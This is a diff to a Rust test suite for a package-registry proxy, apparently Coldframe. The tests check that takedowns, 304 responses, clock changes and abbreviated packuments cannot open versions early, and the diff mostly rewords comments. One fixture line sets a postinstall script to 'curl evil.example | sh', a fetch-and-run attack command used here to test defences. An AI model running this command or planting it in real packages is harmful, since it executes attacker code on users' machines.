@@ -1,5 +1,5 @@
-//! Variations on what was seen and when: what one view saw of a takedown, what a 304 or a restart hides of it, times that are spelled
-//! oddly, scripts that change in the packument alone, and caches that send the other form.
+//! Attacks on history and time: takedowns seen by one view only or hidden by a 304 or a restart, malformed publish times, scripts
+//! that change in the packument only, and caches that send the wrong form.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
@@ -14,7 +14,7 @@ use crate::reply::Reply;
 use crate::scene::Scene;
 
 const TARBALL: &str = "/left-pad/-/left-pad-1.1.0.tgz";
-/// An hour before the scene begins.
+/// One hour before the start time of a scene.
 const AN_HOUR_AGO: &str = "2026-04-03T11:00:00.000Z";
 
 fn old() -> Package {
@@ -25,7 +25,7 @@ fn young() -> Package {
     Package::new("left-pad", "1.1.0").time(AN_HOUR_AGO)
 }
 
-/// A question of one view: without credentials, or with a token.
+/// Requests the packument as one view: with `token`, or without credentials.
 fn ask(scene: &Scene, token: Option<&str>) -> Ask {
     match token {
         Some(token) => scene.get("/left-pad").token(token),
@@ -33,8 +33,8 @@ fn ask(scene: &Scene, token: Option<&str>) -> Ask {
     }
 }
 
-/// The packument with both versions and with the old one alone, as a registry sends them that has no `modified`: the same version that
-/// returns makes the same bytes again, with the same `ETag`.
+/// Returns the packument with both versions and with the old one only. Without `modified`, a version that returns produces the
+/// same bytes and the same `ETag` again.
 fn with_and_without(scene: &Scene) -> (Reply, Reply) {
     scene.publish(old());
     scene.publish(young());
@@ -68,7 +68,7 @@ async fn takedown_seen_by_one_view_counts_for_all() {
             scene.get(TARBALL).await.is(403);
             assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
             scene.advance(hours(71));
-            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "it counts from its return");
+            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "age counts from the return");
             scene.advance(hours(1));
             assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
             assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
@@ -88,7 +88,7 @@ async fn takedown_seen_by_a_view_without_the_version_counts() {
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
         scene.advance(hours(72));
         scene.registry.answer("/left-pad", with);
-        // The view that looks first after the return is the one without the version.
+        // The first fetch after the return is by the view that never saw the version.
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"], "{first:?} {second:?}");
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?}");
         scene.advance(hours(71));
@@ -106,9 +106,9 @@ async fn not_modified_does_not_hide_takedown_seen_by_another_view() {
         let first = (second == "one").then_some("two");
         scene.publish(old());
         scene.publish(young());
-        // The same bytes, so the same `ETag`, whenever the version is there.
-        let there = Arc::new(AtomicBool::new(true));
-        let shows = Arc::clone(&there);
+        // Whenever the version is listed, the bytes and the `ETag` are the same.
+        let listed = Arc::new(AtomicBool::new(true));
+        let shows = Arc::clone(&listed);
         scene.registry.edit("left-pad", move |packument| {
             packument["time"].as_object_mut().unwrap().remove("modified");
             if !shows.load(Ordering::Relaxed) {
@@ -118,10 +118,10 @@ async fn not_modified_does_not_hide_takedown_seen_by_another_view() {
         });
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
         scene.advance(hours(2));
-        there.store(false, Ordering::Relaxed);
+        listed.store(false, Ordering::Relaxed);
         assert_eq!(ask(&scene, Some(second)).await.versions(), ["1.0.0"]);
         scene.advance(hours(72));
-        there.store(true, Ordering::Relaxed);
+        listed.store(true, Ordering::Relaxed);
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{second}");
         assert!(scene.registry.last("/left-pad").headers.first("if-none-match").is_some());
         scene.advance(hours(72));
@@ -275,7 +275,7 @@ async fn clock_change_across_restart_opens_nothing_early() {
     let noon = scene.now();
     scene.advance(hours(10));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    // Set back while it was off, so that the last look lies ahead.
+    // The clock is set back while the server is down, so the last fetch is in the future.
     scene.clock.set(coldframe::units::timestamp::saturating_sub(noon, hours(30)));
     scene.restart().await;
     scene.publish(Package::new("left-pad", "1.1.0").aged(days(90)));
@@ -283,7 +283,7 @@ async fn clock_change_across_restart_opens_nothing_early() {
     scene.get(TARBALL).await.is(403);
     scene.advance(hours(71));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    // Set forward while it was off: an upstream whose clock did not follow opens nothing by it.
+    // The clock is set forward while the server is down. Upstream's clock is unchanged, so no version opens.
     let before = scene.now();
     scene.clock.set(coldframe::units::timestamp::saturating_add(before, hours(100)));
     scene.registry.set_clock_offset(jiff::SignedDuration::from_hours(-100));
@@ -341,7 +341,7 @@ async fn takedown_seen_only_by_a_recheck_counts() {
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     scene.advance(Duration::from_secs(30));
     scene.registry.answer("/left-pad", without);
-    // A made-up version has upstream asked once more.
+    // A request for a version that does not exist makes Coldframe fetch the packument again.
     assert!(scene.get("/left-pad/-/left-pad-7.0.0.tgz").await.status >= 400);
     scene.advance(hours(72));
     scene.registry.answer("/left-pad", with);
@@ -380,8 +380,8 @@ async fn changed_install_script_in_packument_holds_the_version() {
     assert_eq!(scene.get("/left-pad").await.json()["versions"]["1.0.0"]["scripts"]["postinstall"], "curl evil.example | sh");
 }
 
-/// A cache before the registry that has one copy for both forms: the one that was asked for first.
-fn short_whatever_is_asked(scene: &Scene, timed: bool) -> Reply {
+/// Returns the abbreviated form, as a cache sends it that keeps one copy for both forms.
+fn abbreviated_copy(scene: &Scene, timed: bool) -> Reply {
     let mut packument = scene.registry.packument("left-pad");
     let members = packument.as_object_mut().unwrap();
     members.retain(|key, _| ["name", "dist-tags", "versions"].contains(&key.as_str()) || (timed && key == "time"));
@@ -399,7 +399,7 @@ async fn unrequested_abbreviated_form_does_not_bypass_rules() {
     let mut scene = Scene::open().set("policy", path.to_str().unwrap()).await;
     scene.publish(old().field("_npmUser", json!({ "name": "ada" })));
     scene.publish(Package::new("left-pad", "1.1.0").field("_npmUser", json!({ "name": "mallory" })));
-    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, true));
+    scene.registry.answer("/left-pad", abbreviated_copy(&scene, true));
     for restarts in [false, true] {
         if restarts {
             scene.restart().await;
@@ -413,7 +413,7 @@ async fn unrequested_abbreviated_form_does_not_bypass_rules() {
         assert!(scene.registry.count("/left-pad") <= 6, "{}", scene.registry.count("/left-pad"));
         scene.advance(minutes(6));
     }
-    // As soon as the cache sends what is asked for, all is known.
+    // The rules see every fact when the cache sends the requested form.
     scene.registry.clear_answer("/left-pad");
     scene.advance(minutes(6));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
@@ -425,7 +425,7 @@ async fn unrequested_abbreviated_form_does_not_bypass_rules() {
 async fn installs_work_behind_a_cache_with_only_the_abbreviated_form() {
     let mut scene = Scene::open().await;
     scene.publish(old());
-    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, true));
+    scene.registry.answer("/left-pad", abbreviated_copy(&scene, true));
     for restarts in [false, true] {
         if restarts {
             scene.restart().await;
@@ -437,10 +437,10 @@ async fn installs_work_behind_a_cache_with_only_the_abbreviated_form() {
         scene.get("/left-pad/1.0.0").await.is(200);
         scene.advance(minutes(6));
     }
-    // Without `time` it waits from when it was seen, as ever, and no question is asked again and again.
+    // Without `time`, age counts from first seen, and the packument is not fetched repeatedly.
     let scene = Scene::open().await;
     scene.publish(old());
-    scene.registry.answer("/left-pad", short_whatever_is_asked(&scene, false));
+    scene.registry.answer("/left-pad", abbreviated_copy(&scene, false));
     for _ in 0..3 {
         scene.get("/left-pad").await.is(403);
         scene.get("/left-pad").abbreviated().await.is(403);
